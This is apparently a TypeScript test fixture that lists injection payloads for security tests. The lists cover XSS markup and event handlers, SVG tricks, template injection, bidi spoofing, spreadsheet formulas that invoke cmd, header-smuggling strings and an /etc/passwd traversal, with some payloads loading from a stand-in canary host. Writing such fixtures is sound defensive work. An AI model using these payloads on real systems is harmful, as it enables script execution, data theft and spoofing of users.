/*
 * What people type to have it run elsewhere: in a page, a mail, a spreadsheet, a log or a header. The one list of all layers: tests of the
 * server send it through every field, and the journey looks at it in a browser. Whatever runs says so at `window.__ran`, opens a dialog,
 * asks `CANARY_HOST` or leaves an element with the name `CANARY`.
 */

export const CANARY_HOST = "canary.example";
export const CANARY = "x-canary";

const run = "window.__ran=1";

export const MARKUP: readonly string[] = [
  `<script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<SCRIPT SRC=//${CANARY_HOST}/a.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>">`,
  `<iframe src=javascript:parent.__ran=1>`,
  `<object data=//${CANARY_HOST}/o></object>`,
  `<embed src=//${CANARY_HOST}/e>`,
  `<base href=//${CANARY_HOST}/>`,
  `<link rel=stylesheet href=//${CANARY_HOST}/s>`,
  `<meta http-equiv=refresh content=0;url=//${CANARY_HOST}>`,
  `<form action=//${CANARY_HOST}><input name=${CANARY}>`,
  `<style>@import'//${CANARY_HOST}/i'</style>`,
  `<p style="background:url(//${CANARY_HOST}/b)" id=${CANARY}>`,
  `<a href="javascript:${run}" id=${CANARY}>link</a>`,
  `<${CANARY}>element</${CANARY}>`,
  `<template><script>${run}</script></template>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;img src=x onerror=${run}&#62;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `<!--<img src="--><img src=x onerror=${run}>`,
  `javascript:${run}//`,
];

export const HANDLERS: readonly string[] = [
  `<img src=x onerror=${run}>`,
  `<img src=//${CANARY_HOST}/p.gif>`,
  `" onfocus="${run}" autofocus="`,
  `' onmouseover='${run}`,
  "` onerror=`window.__ran=1",
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>`,
  `<p onpointerenter=${run}>over</p>`,
  `<a onclick=${run} href=#>tap</a>`,
];

export const SVG: readonly string[] = [
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x/>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${run}></svg>`,
  `<math><mtext></p><img src=x onerror=${run}></math>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
];

/** They turn round what stands beside them, or are not seen at all. */
export const BIDI: readonly string[] = [
  "Karim\u202Egpj.exe",
  "Karim\u202D0054\u202C",
  "\u2067Karim\u2066 paid",
  "Karim\u2069\u202E0001",
  "\u200F\u061CKarim",
  "\u202BKarim",
];
export const ZERO_WIDTH: readonly string[] = ["Ka\u200Brim", "Ka\u200Drim\u2060", "\uFEFFKarim", "Ka\u00ADrim", "Ka\u034Frim\uFE0F"];

/** Templates of this house and of others. */
export const TEMPLATES: readonly string[] = [
  "{{constructor.constructor('window.__ran=1')()}}",
  "${window.__ran=1}",
  "#{7*7}",
  "<%= 7*7 %>",
  "{% raw %}{{7*7}}",
  "{name}",
  "{count, plural, other {#}}",
  "{__proto__}",
  "%s%n$1$&",
  "$`$'$$",
];

/** What a spreadsheet runs, and what ends a cell, a line of a log or a header. */
export const FORMULAS: readonly string[] = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://${CANARY_HOST}","x")`,
  "+1+cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  `\t=IMPORTXML("http://${CANARY_HOST}","//a")`,
  "\r=1+1",
  "\n=1+1",
  '";=1+1;"',
  "＝1+1",
  " =1+1",
];
export const LINES: readonly string[] = [
  `x\r\nSet-Cookie: ${CANARY}=1`,
  `x\nBcc: all@${CANARY_HOST}`,
  '"; filename="evil.exe',
  "../../../etc/passwd",
  "\u2028window.__ran=1",
  "x\u0085level=60",
];

/** Every one of them. */
export const PAYLOADS: readonly string[] = [...MARKUP, ...HANDLERS, ...SVG, ...BIDI, ...ZERO_WIDTH, ...TEMPLATES, ...FORMULAS, ...LINES];
